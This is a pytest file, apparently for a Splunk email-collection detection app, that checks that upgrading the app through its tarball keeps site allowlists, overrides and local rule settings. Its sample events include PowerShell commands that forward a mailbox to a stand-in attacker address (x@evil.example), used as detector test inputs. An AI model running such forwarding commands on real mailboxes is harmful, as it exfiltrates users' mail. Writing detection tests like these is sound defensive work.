"""An upgrade through the real tarball keeps everything a site configured.

Install version N by extracting its tarball into an apps folder, add site rows, domains and
overrides the way `| outputlookup` writes them, switch off a shipped row (overrides lookup) and
rules (local/), install version N+1 (one shipped row corrected, so its shipped file has a new dated
name) over it, then run the command as splunkd does and check that every site row, domain, override
and local setting still applies and that N+1's shipped change applies too. Two ways of installing
N+1 are checked: extracting over the old folder, which is what `splunk install app -update 1` and
Install app from file with upgrade do (files of the package replace their namesakes, others stay),
and the same but keeping every lookup file whose name already exists, which is what Splunk Cloud
and a search head cluster deployer with preserved lookups do.
"""

import csv
import os
import shutil
import subprocess
import sys
import tarfile

import pytest

from tests.conftest import REPO, shipped_lookup_path
from tests.rule_events import load_cases, presentations
from tools.build import app_identity
from tools.chunked_client import run, script_path
from tests.helpers import require_tools

APP_ID = app_identity()[0]
OLD_BACKUP_EXEC = r"C:\Program Files\Veritas\Backup Exec\beremote.exe"
NEW_BACKUP_EXEC = r"C:\Program Files\Veritas\Backup Exec\RAWS\beremote.exe"   # the path N+1 corrects to
NEW_SHIPPED_PROCESSES = "t1114_shipped_processes_29991231.csv"   # N+1's name for its corrected file
WHEN = "1764892800"  # 2025-12-05, inside the site's migration window
SIGNED = {"added_by": "alice", "added_at": "2025-11-30T09:00:00+0000"}   # as the README's search writes them

SITE_LOOKUPS = {
    # outputlookup writes the fields of its results (here in alphabetical order, every value quoted),
    # including the optional `class` column and leaving out columns a row never had.
    "t1114_allowlist_accounts.csv": [
        {"account": "svc-bittitan@contoso.com", "class": "migration", "reason": "MigrationWiz cutover, CHG-4711",
         "rules": "t1114_003_mailbox_forwarding", "valid_from": "2025-12-01", "valid_until": "2025-12-31", **SIGNED}],
    "t1114_allowlist_processes.csv": [
        {"class": "backup", "process_name": "pstbackup.exe", "process_path": r"C:\Program Files\PstBackup\pstbackup.exe",
         "reason": "nightly PST backup, CHG-12", "rules": "t1114_001_mail_file_read", **SIGNED}],
    "t1114_allowlist_applications.csv": [
        {"app_id": "7c2e0b6a-0000-4000-8000-00000000c001", "class": "archiving", "name": "Mimecast (our registration)",
         "reason": "journal archiving reads every mailbox", "rules": "t1114_002_mail_items_accessed_*", **SIGNED}],
    "t1114_org_domains.csv": [{"description": "our subsidiaries", "domain": "*.contoso.net"}],
    "t1114_overrides.csv": [
        {"target_type": "shipped_row", "target": "sentinelone_agent", "state": "off",
         "reason": "SentinelOne is not deployed here", **SIGNED}],
}
LOCAL_CONF = """[rule:t1114_002_legacy_protocol_signin]
state = off

[rule:t1114_003_inbox_rule_forward_cmdlet]
state = report_only
"""


def write_like_outputlookup(path, rows):
    header = sorted({column for row in rows for column in row})
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, header, quoting=csv.QUOTE_ALL, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def build_version(source, out, edit=None):
    """The tarball tools/build.py makes from `source` (a copy of the repository when `edit` changes it)."""
    if edit is not None:
        copy = os.path.join(out, "source")
        shutil.copytree(source, copy, ignore=shutil.ignore_patterns(".git", ".tox", ".venv", "build", "dist",
                                                                     "__pycache__", ".pytest_cache"))
        edit(copy)
        source = copy
    record = ["--record-shipped-lookups"] if edit is not None else []    # N+1's new file name
    subprocess.check_call([sys.executable, os.path.join(source, "tools", "build.py"), "--build-dir",
                           os.path.join(out, "build"), "--dist-dir", os.path.join(out, "dist")] + record, cwd=source,
                          stdout=subprocess.DEVNULL)
    (tarball,) = [os.path.join(out, "dist", name) for name in os.listdir(os.path.join(out, "dist"))]
    return tarball


def next_version(copy):
    conf = os.path.join(copy, "default", "app.conf")
    with open(conf, encoding="utf-8") as handle:
        text = handle.read()
    version = app_identity()[1]
    with open(conf, "w", encoding="utf-8") as handle:
        handle.write(text.replace("version = %s" % version, "version = %s.1" % version))
    # A developer's own test rows in the source tree must never reach the package.
    os.makedirs(os.path.join(copy, "lookups"), exist_ok=True)
    with open(os.path.join(copy, "lookups", "t1114_allowlist_accounts.csv"), "w", encoding="utf-8") as handle:
        handle.write("account,reason\ndeveloper@example.com,my test row\n")
    # Changed shipped rows get a new dated name and the definition follows (default/transforms.conf).
    shipped = shipped_lookup_path("t1114_shipped_processes", copy)
    with open(shipped, encoding="utf-8") as handle:
        text = handle.read()
    assert text.count(OLD_BACKUP_EXEC + ",") == 1
    renamed = os.path.join(os.path.dirname(shipped), NEW_SHIPPED_PROCESSES)
    with open(renamed, "w", encoding="utf-8") as handle:
        handle.write(text.replace(OLD_BACKUP_EXEC + ",", NEW_BACKUP_EXEC + ","))
    os.remove(shipped)
    transforms = os.path.join(copy, "default", "transforms.conf")
    with open(transforms, encoding="utf-8") as handle:
        conf = handle.read()
    with open(transforms, "w", encoding="utf-8") as handle:
        handle.write(conf.replace(os.path.basename(shipped), NEW_SHIPPED_PROCESSES))


def install(tarball, apps, preserve_lookups=False):
    """Extract over the apps folder; `preserve_lookups` keeps every lookup file already there."""
    with tarfile.open(tarball) as archive:
        members = [member for member in archive.getmembers()
                   if not (preserve_lookups and "/lookups/" in member.name
                           and os.path.exists(os.path.join(apps, member.name)))]
        if hasattr(tarfile, "data_filter"):
            archive.extractall(apps, members, filter="data")
        else:
            archive.extractall(apps, members)


def mail_read(process_path):
    return {"_time": WHEN, "sourcetype": "XmlWinEventLog", "source": "XmlWinEventLog:Security", "EventCode": "4663",
            "Computer": "ws-017.contoso.com", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
            "ObjectType": "File", "ObjectName": r"C:\Users\bob\AppData\Local\Microsoft\Outlook\bob@contoso.com.ost",
            "ProcessName": process_path, "AccessList": "%%4416", "AccessMask": "0x1"}


def script_block(user, text):
    return {"_time": WHEN, "sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": user, "ScriptBlockText": text}


def first_positive(rule_id):
    case = load_cases(os.path.join(REPO, "app", "rules", rule_id + ".test.yml"))["positive"][0]
    record = presentations(case)[0][1]
    record["_time"] = WHEN
    return record


EVENTS = {
    "site_account": script_block("svc-bittitan@contoso.com",
                                 "Set-Mailbox -Identity bob -ForwardingSmtpAddress smtp:x@evil.example"),
    "org_domain": script_block("bob@contoso.com", "Set-Mailbox -Identity bob -ForwardingSmtpAddress smtp:bob@mail.contoso.net"),
    "site_process": mail_read(r"C:\Program Files\PstBackup\pstbackup.exe"),
    "site_application": first_positive("t1114_002_mail_items_accessed_application"),
    "shipped_row_off": mail_read(r"C:\Program Files\SentinelOne\Sentinel Agent 23.4\SentinelAgent.exe"),
    "shipped_row_kept": mail_read(r"C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Service.exe"),
    "shipped_row_new": mail_read(NEW_BACKUP_EXEC),
    "shipped_row_old": mail_read(OLD_BACKUP_EXEC),
    "rule_off": first_positive("t1114_002_legacy_protocol_signin"),
    "rule_report_only": script_block("bob@contoso.com", "New-InboxRule -Name a -ForwardTo x@evil.example"),
}


def outcomes(app_dir):
    records = [dict(record, case=name) for name, record in EVENTS.items()]
    result = run(script_path(app_dir), records, args=["mode=all"])
    assert result["exit_code"] == 0, result["stderr"]
    warnings = [text for level, text in result["messages"] if level == "WARN"]
    return {r["case"]: r for r in result["records"]}, warnings


@pytest.fixture(scope="module")
def tarballs(tmp_path_factory):
    require_tools("slim")
    root = tmp_path_factory.mktemp("versions")
    os.makedirs(str(root / "n"))
    os.makedirs(str(root / "n1"))
    return build_version(REPO, str(root / "n")), build_version(REPO, str(root / "n1"), next_version)


@pytest.mark.parametrize("preserve_lookups", [False, True], ids=["install_over", "lookups_preserved"])
def test_upgrade_keeps_every_site_setting_and_brings_the_new_shipped_rows(tarballs, tmp_path, preserve_lookups):
    version_n, version_n1 = tarballs
    apps = str(tmp_path / "etc" / "apps")
    install(version_n, apps)
    app_dir = os.path.join(apps, APP_ID)
    shipped_n = sorted(os.listdir(os.path.join(app_dir, "lookups")))
    assert shipped_n and not set(shipped_n) & set(SITE_LOOKUPS)           # N ships no site lookup
    before, _ = outcomes(app_dir)
    assert before["site_account"]["t1114_status"] == "finding"
    assert before["shipped_row_off"]["t1114_status"] == "suppressed"

    for name, rows in SITE_LOOKUPS.items():
        write_like_outputlookup(os.path.join(app_dir, "lookups", name), rows)
    os.makedirs(os.path.join(app_dir, "local"))
    with open(os.path.join(app_dir, "local", "t1114.conf"), "w", encoding="utf-8") as handle:
        handle.write(LOCAL_CONF)
    site_files = {name: open(os.path.join(app_dir, "lookups", name), "rb").read() for name in SITE_LOOKUPS}
    on_n, warnings_n = outcomes(app_dir)
    assert on_n["shipped_row_new"]["t1114_status"] == "finding"       # N does not know the corrected path

    with tarfile.open(version_n1) as archive:
        shipped_n1 = sorted(name.split("/")[-1] for name in archive.getnames() if "/lookups/" in name)
    assert NEW_SHIPPED_PROCESSES in shipped_n1 and not set(shipped_n1) & set(SITE_LOOKUPS)
    install(version_n1, apps, preserve_lookups)
    # N's processes file stays behind (nothing deletes it), but no definition names it any more.
    assert set(os.listdir(os.path.join(app_dir, "lookups"))) == set(shipped_n) | set(shipped_n1) | set(SITE_LOOKUPS)

    with open(os.path.join(app_dir, "default", "app.conf"), encoding="utf-8") as handle:
        assert "version = %s.1" % app_identity()[1] in handle.read()
    for name, data in site_files.items():
        with open(os.path.join(app_dir, "lookups", name), "rb") as handle:
            assert handle.read() == data, name
    with open(os.path.join(app_dir, "local", "t1114.conf"), encoding="utf-8") as handle:
        assert handle.read() == LOCAL_CONF

    after, warnings = outcomes(app_dir)
    assert warnings == warnings_n == [], warnings
    site_account = after["site_account"]
    assert site_account["t1114_status"] == "suppressed"
    assert site_account["t1114_suppressed_by"].startswith(
        "t1114_allowlist_accounts.csv line 2 (account=svc-bittitan@contoso.com, rules=t1114_003_mailbox_forwarding, "
        "valid_from=2025-12-01, valid_until=2025-12-31): MigrationWiz cutover")
    assert after["org_domain"]["t1114_status"] == "finding"
    assert after["org_domain"]["t1114_external_destination"] == ""      # *.contoso.net is ours
    assert after["org_domain"]["t1114_severity"] == "medium"
    assert after["site_process"]["t1114_suppressed_by"].startswith("t1114_allowlist_processes.csv line 2 ")
    assert after["site_application"]["t1114_suppressed_by"].startswith("t1114_allowlist_applications.csv line 2 ")
    assert after["shipped_row_off"]["t1114_status"] == "finding"         # switched off in t1114_overrides
    assert " row veeam_agent " in after["shipped_row_kept"]["t1114_suppressed_by"]
    assert after["shipped_row_new"]["t1114_suppressed_by"].startswith(NEW_SHIPPED_PROCESSES + " line ")  # N+1's file
    assert " row backup_exec_remote_agent " in after["shipped_row_new"]["t1114_suppressed_by"]  # N+1's correction
    assert after["shipped_row_old"]["t1114_status"] == "finding"
    assert after["rule_off"]["t1114_status"] == "" and after["rule_off"]["t1114_rule"] == ""
    assert on_n["rule_off"]["t1114_status"] == "" and before["rule_off"]["t1114_status"] == "finding"
    assert after["rule_report_only"]["t1114_status"] == "report_only"
